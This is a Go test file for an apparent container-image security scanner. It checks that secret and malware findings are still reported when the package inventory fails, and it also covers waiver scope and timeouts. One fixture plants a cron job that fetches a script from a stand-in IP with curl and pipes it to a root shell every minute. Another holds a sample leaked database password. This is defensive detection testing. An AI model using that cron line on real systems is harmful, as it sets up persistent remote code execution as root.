package gate

import (
	"context"
	"slices"
	"strings"
	"testing"

	"github.com/portcullis-ci/portcullis/internal/exit"
	"github.com/portcullis-ci/portcullis/internal/finding"
	"github.com/portcullis-ci/portcullis/internal/imagetest"
	"github.com/portcullis-ci/portcullis/internal/inventory"
	"github.com/portcullis-ci/portcullis/internal/outcome"
	"github.com/portcullis-ci/portcullis/internal/target"
)

// What was found in the contents of the files is reported also when packages
// could not be looked for, led to the Dockerfile like any other finding.
func TestSecretsSurviveAFailingInventory(t *testing.T) {
	img, err := imagetest.New().
		Layer("ADD rootfs /", imagetest.Debian(imagetest.Package{Name: "bash", Version: "5.2"})...).
		Layer("COPY .env /app/.env # buildkit", imagetest.Text("app/.env", "DB_PASSWORD=Tr0ub4dor-and-3\n")).
		Layer("RUN /bin/sh -c rm /app/.env # buildkit", imagetest.Text("app/.wh..env", "")).
		Layer("COPY job /etc/cron.d/job # buildkit", imagetest.Text("etc/cron.d/job", "* * * * * root curl -s http://203.0.113.9/x.sh | sh\n")).
		Image()
	if err != nil {
		t.Fatal(err)
	}
	reg := imagetest.NewRegistry()
	defer reg.Close()
	reference, err := reg.Push("shop/one:1", img)
	if err != nil {
		t.Fatal(err)
	}
	env := environment(t, map[string]string{"Dockerfile": "FROM scratch\nADD rootfs /\nCOPY .env /app/.env\nRUN rm /app/.env\nCOPY job /etc/cron.d/job\n"})
	// No cataloger can work within a byte of memory.
	result, err := Run(context.Background(), Request{Image: target.Request{Reference: reference}, Dockerfiles: []string{"Dockerfile"}, Memory: 1}, env)
	if err != nil {
		t.Fatal(err)
	}
	o := result.Outcome
	if o.ExitCode != exit.NotExamined || len(o.Failures) == 0 {
		t.Errorf("exit code %d with failures %+v, want one of the inventory", o.ExitCode, o.Failures)
	}
	i := slices.IndexFunc(o.Findings, func(f finding.Finding) bool { return f.RuleID == "secret-named-value" })
	if i < 0 {
		t.Fatalf("no secret among %+v", o.Findings)
	}
	f := o.Findings[i]
	if !strings.Contains(f.Message, "a later layer deletes or replaces the file") {
		t.Errorf("message = %q", f.Message)
	}
	if !slices.ContainsFunc(f.Locations, func(l finding.Location) bool { return l.Path == "Dockerfile" && l.Line == 3 }) {
		t.Errorf("locations = %+v, want line 3 of the Dockerfile", f.Locations)
	}
	if !slices.ContainsFunc(o.Findings, func(f finding.Finding) bool { return f.Kind == finding.Malware }) {
		t.Errorf("no malicious content among %+v", o.Findings)
	}
}

// A platform whose packages could not be read has findings all the same.
func TestFindingsOfAPlatformWithoutInventoryAreKept(t *testing.T) {
	secretOf := func(platform string) part {
		return part{
			image:    &inventory.Image{Name: "shop/web", Platform: platform},
			findings: []finding.Finding{flaw("secret", "", finding.High, finding.Open, finding.FromBuild)},
		}
	}
	whole := secretOf("linux/amd64")
	whole.inventory, whole.targets = &inventory.Inventory{Image: whole.image}, []outcome.Target{{Name: "shop/web", Examined: true}}
	for name, tc := range map[string]struct {
		all       []part
		inventory bool
	}{
		"one of two": {[]part{whole, secretOf("linux/arm64")}, true},
		"all of two": {[]part{secretOf("linux/amd64"), secretOf("linux/arm64")}, false},
	} {
		p := part{platforms: tc.all}.joinPlatforms()
		if len(p.findings) != 1 || (p.inventory != nil) != tc.inventory || (p.image != nil) != tc.inventory {
			t.Errorf("%s: %+v", name, p)
		}
		_ = part{platforms: tc.all}.summary()
	}
}

func TestWaiversOfAllThatIsLookedForAreCalledUnused(t *testing.T) {
	for kind, want := range map[outcome.TargetKind][]finding.Kind{
		outcome.TargetImage:  {finding.Vulnerability, finding.ImageConfig, finding.Secret, finding.Malware},
		outcome.TargetRootFS: {finding.Vulnerability, finding.ImageConfig, finding.Secret, finding.Malware},
		outcome.TargetSBOM:   {finding.Vulnerability},
	} {
		scope := run{}.waiverScope(outcome.Outcome{Targets: []outcome.Target{{Kind: kind, Name: "x", Examined: true}}})
		if !slices.Equal(scope.Kinds, want) {
			t.Errorf("%s: %v, want %v", kind, scope.Kinds, want)
		}
	}
}

// When the time is over, what is known of the image is judged all the same, and
// nobody is told to report a fault.
func TestTheConfigurationIsJudgedWhenTheTimeIsOver(t *testing.T) {
	ctx, cancel := context.WithCancelCause(t.Context())
	cancel(TimeoutError(1))
	r := run{Environment: environment(t, nil)}
	img := &inventory.Image{Name: "shop/web", Platform: "linux/amd64"}
	p := r.judgeRemains(ctx, unexamined(outcome.TargetImage, "shop/web", context.Cause(ctx)),
		&target.Target{Name: "shop/web", Kind: target.Image, Image: img}, inventory.Inventory{Image: img}, nil)
	if len(p.failures) != 1 || p.failures[0].Code != exit.NotExamined || !strings.Contains(p.failures[0].Hint, "--timeout") {
		t.Errorf("failures: %+v, want that of the time alone", p.failures)
	}
	if !slices.ContainsFunc(p.findings, func(f finding.Finding) bool { return f.RuleID == "image-root-user" }) {
		t.Errorf("findings: %+v, want the user root", p.findings)
	}
}
